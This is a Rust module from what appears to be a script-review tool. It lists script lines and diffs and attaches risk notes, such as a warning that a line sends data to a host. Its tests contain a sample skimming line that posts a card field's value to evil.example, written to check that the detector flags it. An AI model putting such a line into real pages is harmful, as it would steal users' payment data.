//! Text of scripts as lines: numbered, what is different and what is risky marked.

use gabion_core::Severity;
use gabion_markup::script::{Comparison, Risk, RiskKind, Side, lay_out};
use gabion_pages::change::RiskNote;

use crate::words::plural;

/// Lines of a script that are shown.
pub(super) const LINES_SHOWN: usize = 400;

/// Lines of a script, and what is worth a look in them.
#[derive(Default)]
pub(super) struct Listing {
    pub(super) lines: Vec<Line>,
    /// Whether there is more than is shown.
    pub(super) is_partial: bool,
}

pub(super) struct Line {
    pub(super) number: usize,
    pub(super) side: Side,
    pub(super) text: String,
    pub(super) notes: Vec<Note>,
}

pub(super) struct Note {
    pub(super) is_critical: bool,
    pub(super) text: String,
}

impl Line {
    pub(super) fn is_new(&self) -> bool {
        self.side == Side::New
    }

    pub(super) fn is_old(&self) -> bool {
        self.side == Side::Old
    }
}

/// A script laid out, its first `lines_max` lines.
pub(super) fn of_text(text: &str, risks: &[Risk], lines_max: usize) -> Listing {
    let layout = lay_out(text);
    let is_partial = layout.is_partial || layout.lines.len() > lines_max;
    let lines = layout.lines.into_iter().take(lines_max).zip(1..);
    let lines = lines.map(|(line, number)| Line {
        number,
        side: Side::Both,
        text: line.text,
        notes: notes(risks, number),
    });
    Listing { lines: lines.collect(), is_partial }
}

/// What is different, with the risks of the newer version.
pub(super) fn of_comparison(comparison: &Comparison, risks: &[Risk]) -> Listing {
    listed(comparison, |side, number, _| match side {
        Side::Old => Vec::new(),
        Side::Both | Side::New => notes(risks, number),
    })
}

/// What is different, with notes at the first added line that holds what they are about.
pub(super) fn of_change(comparison: &Comparison, risks: &[RiskNote]) -> Listing {
    let mut left: Vec<&RiskNote> = risks.iter().collect();
    listed(comparison, |side, _, text| {
        let is_here =
            |risk: &&RiskNote| side == Side::New && !risk.detail.is_empty() && text.contains(&risk.detail);
        let here = left.iter().filter(|risk| is_here(risk)).map(|risk| noted(risk)).collect();
        left.retain(|risk| !is_here(risk));
        here
    })
}

/// How much is different.
pub(super) fn summary(comparison: &Comparison) -> String {
    format!("{} added, {} removed", plural(comparison.added, "line", "lines"), comparison.removed)
}

/// A risk of a change as a sentence.
pub(super) fn noted(risk: &RiskNote) -> Note {
    let what = risk.kind.replace('-', " ");
    let text = if risk.detail.is_empty() { what } else { format!("{what}: {}", risk.detail) };
    Note { is_critical: risk.severity == Severity::Critical.as_str(), text }
}

/// Risks as sentences, each once, the worst first.
pub(super) fn told(risks: &[Risk]) -> Vec<Note> {
    let mut worst: Vec<&Risk> = worth_telling(risks).collect();
    worst.sort_by_key(|risk| std::cmp::Reverse(risk.severity));
    let mut notes: Vec<Note> = Vec::new();
    for risk in worst {
        let note = note(risk);
        if notes.iter().all(|known| known.text != note.text) {
            notes.push(note);
        }
    }
    notes
}

fn listed(comparison: &Comparison, mut notes: impl FnMut(Side, usize, &str) -> Vec<Note>) -> Listing {
    let shown = comparison.changes.iter().take(LINES_SHOWN);
    let lines = shown.map(|change| Line {
        number: change.line,
        side: change.side,
        text: change.text.clone(),
        notes: notes(change.side, change.line, &change.text),
    });
    let is_partial = comparison.is_partial || comparison.changes.len() > LINES_SHOWN;
    Listing { lines: lines.collect(), is_partial }
}

fn notes(risks: &[Risk], line: usize) -> Vec<Note> {
    worth_telling(risks).filter(|risk| risk.place.line == line).map(note).collect()
}

/// Without places that are only mentioned, where it is said already what is done with them.
fn worth_telling(risks: &[Risk]) -> impl Iterator<Item = &Risk> {
    let is_said = |place: &Risk| {
        risks.iter().any(|risk| risk.kind != RiskKind::NamesOrigin && risk.detail == place.detail)
    };
    risks.iter().filter(move |risk| risk.kind != RiskKind::NamesOrigin || !is_said(risk))
}

fn note(risk: &Risk) -> Note {
    let sentence = risk.kind.sentence();
    let text = match risk.detail.as_str() {
        "" => sentence.to_owned(),
        detail => format!("{}: {detail}", sentence.trim_end_matches('.')),
    };
    Note { is_critical: risk.severity == Severity::Critical, text }
}

#[cfg(test)]
mod tests {
    use gabion_markup::script::{compare, risks};

    use super::*;

    const OLD: &str = "cart.show();";
    const NEW: &str = "cart.show();\nfetch('https://evil.example/c', {body: card.value});";

    #[test]
    fn a_new_line_that_sends_somewhere_says_so() {
        let listing = of_comparison(&compare(OLD, NEW), &risks(NEW));
        let line = listing.lines.iter().find(|line| line.text.contains("fetch")).expect("the new line");
        assert!(line.is_new());
        assert!(line.notes.iter().any(|note| note.text.contains("evil.example")), "it names the place");
        let same = listing.lines.iter().find(|line| line.text.contains("show")).expect("the old line");
        assert!(!same.is_new() && !same.is_old());
    }

    #[test]
    fn notes_of_a_change_stand_where_their_text_stands_and_once() {
        let risk = RiskNote {
            kind: "sends-to".to_owned(),
            detail: "https://evil.example".to_owned(),
            severity: "critical".to_owned(),
        };
        let text = format!("{NEW}\nfetch('https://evil.example/d');");
        let listing = of_change(&compare(OLD, &text), &[risk]);
        let noted: Vec<_> = listing.lines.iter().flat_map(|line| &line.notes).collect();
        assert_eq!(noted.len(), 1);
        assert_eq!((noted[0].text.as_str(), noted[0].is_critical), ("sends to: https://evil.example", true));
    }

    #[test]
    fn long_scripts_are_cut_and_that_is_told() {
        let text = "a();\n".repeat(30);
        let listing = of_text(&text, &[], 12);
        assert_eq!((listing.lines.len(), listing.is_partial), (12, true));
    }
}
